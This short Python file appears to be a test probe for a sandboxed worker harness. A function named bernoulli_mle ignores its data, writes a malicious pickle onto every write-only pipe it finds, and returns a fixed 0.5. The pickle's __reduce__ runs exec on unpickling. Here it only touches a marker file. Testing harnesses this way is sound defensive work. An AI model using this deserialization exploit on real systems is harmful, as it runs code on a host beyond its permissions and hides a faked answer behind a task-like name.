"""Write a pickle onto the worker's reply pipe: it would touch a marker file if unpickled."""

import fcntl
import os
import pickle
import stat
import struct


class Payload:
    def __reduce__(self):
        code = "import pathlib; pathlib.Path('/tmp/hostile-corpus-pickle-ran').touch()"
        return (exec, (code,))


def reply_pipes():
    """Every pipe this process may write to, other than stdout and stderr."""
    found = []
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        except OSError:
            continue
        if stat.S_ISFIFO(mode) and flags & os.O_ACCMODE == os.O_WRONLY:
            found.append(fd)
    return found


def bernoulli_mle(flips):
    data = pickle.dumps(Payload())
    for fd in reply_pipes():
        os.write(fd, struct.pack(">Q", len(data)) + data)
    return 0.5
